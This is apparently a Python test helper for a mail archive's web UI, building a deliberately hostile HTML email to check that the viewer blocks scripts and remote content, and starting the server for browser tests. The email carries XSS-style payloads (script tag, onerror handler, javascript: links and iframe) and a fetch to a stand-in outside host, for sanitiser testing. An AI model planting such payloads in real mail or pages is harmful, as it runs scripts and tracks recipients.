"""Helpers for the web UI tests: a small vault of awkward HTML mail, and ``mailvault serve`` as a real process."""

from __future__ import annotations

import os
import queue
import re
import subprocess
import threading
from dataclasses import dataclass
from pathlib import Path

from tests.common import mv_argv, proc_env

HOSTILE_MARK = "mv-hostile-ran"
CID_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)


def html_message(i: int, subject: str, html: str, extra_parts: str = "", boundary: str = "BOUNDARY") -> bytes:
    return (
        f"From: Sender {i} <sender{i}@example.org>\r\nTo: alice@example.org\r\nSubject: {subject}\r\n"
        f"Date: Mon, {i + 1} Jul 2024 10:00:00 +0000\r\nMessage-ID: <web{i}@example.org>\r\nMIME-Version: 1.0\r\n"
        f'Content-Type: multipart/related; boundary="{boundary}"\r\n\r\n'
        f"--{boundary}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
        f"{extra_parts}--{boundary}--\r\n"
    ).encode()


def hostile_message() -> bytes:
    """Scripts in every form a mail can carry them, plus a remote image and a remote stylesheet."""
    html = (
        f"<p>Hello <b>there</b></p><script>parent.document.title='{HOSTILE_MARK}';"
        f"fetch('http://198.51.100.7/{HOSTILE_MARK}')</script>"
        f"<img src=x onerror=\"parent.document.title='{HOSTILE_MARK}'\">"
        f"<a href=\"javascript:parent.document.title='{HOSTILE_MARK}'\" id=jslink>click</a>"
        '<img src="http://198.51.100.7/track.png" alt="remote">'
        '<link rel=stylesheet href="http://198.51.100.7/x.css">'
        f"<iframe src=\"javascript:parent.document.title='{HOSTILE_MARK}'\"></iframe>"
        '<img src="cid:logo@example.org" alt="inline logo">'
    )
    b64 = __import__("base64").b64encode(CID_PNG).decode()
    inline = (
        "--BOUNDARY\r\nContent-Type: image/png\r\nContent-ID: <logo@example.org>\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{b64}\r\n"
        '--BOUNDARY\r\nContent-Type: application/pdf; name="report.pdf"\r\n'
        'Content-Disposition: attachment; filename="report.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + __import__("base64").b64encode(b"%PDF-1.4 fake report body\n").decode()
        + "\r\n"
    )
    return html_message(0, "Hostile newsletter", html, inline)


@dataclass
class Served:
    proc: subprocess.Popen[str]
    url: str  # with the one-time token

    @property
    def base(self) -> str:
        return self.url.split("/?", 1)[0]

    @property
    def token(self) -> str:
        return self.url.rsplit("token=", 1)[1]

    @property
    def port(self) -> int:
        return int(self.base.rsplit(":", 1)[1])

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()


def serve(vault: Path, *extra: str, env: dict[str, str] | None = None, timeout: float = 30) -> Served:
    """``python -m mailvault serve VAULT`` in the background; returns once it printed its URL."""
    proc = subprocess.Popen(
        mv_argv("serve", vault, *extra),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=proc_env(env),
    )
    lines: queue.Queue[str] = queue.Queue()

    def pump() -> None:
        assert proc.stdout is not None
        for line in proc.stdout:
            lines.put(line)

    threading.Thread(target=pump, daemon=True).start()
    try:
        line = lines.get(timeout=timeout)
    except queue.Empty:
        proc.kill()
        raise AssertionError(
            f"serve printed no URL; stderr: {proc.stderr.read() if proc.stderr else ''}"
        ) from None
    m = re.search(r"(http://\S+/\?token=\S+)", line)
    assert m, line
    return Served(proc, m.group(1))


def chromium_path() -> str | None:
    for p in (os.environ.get("MAILVAULT_CHROMIUM"), "/usr/bin/chromium", "/usr/bin/chromium-browser"):
        if p and Path(p).exists():
            return p
    return None


CHROMIUM_ARGS = [
    "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--disable-default-apps", "--disable-extensions", "--metrics-recording-only", "--no-default-browser-check",
]  # fmt: skip
